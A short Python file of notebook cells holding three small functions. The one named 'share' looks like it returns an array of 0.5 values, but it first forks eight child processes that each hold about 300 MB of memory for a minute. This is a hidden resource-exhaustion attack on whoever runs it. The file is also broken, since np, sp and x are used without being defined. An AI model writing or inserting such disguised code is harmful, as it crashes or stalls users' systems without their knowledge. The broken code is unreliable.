"""Memory without end, spread over children."""
# %% share
import os
import time


def share(v):
    for _ in range(8):
        if os.fork() == 0:
            hoard = [bytearray(b"x" * 300_000_000)]
            time.sleep(60)
            os._exit(0)
    time.sleep(1)
    return np.full(v.shape, 0.5)

# %% total
def total(numbers):
    return sum(numbers)

# %% slope
slope = 2 * x * sp.exp(x**2)
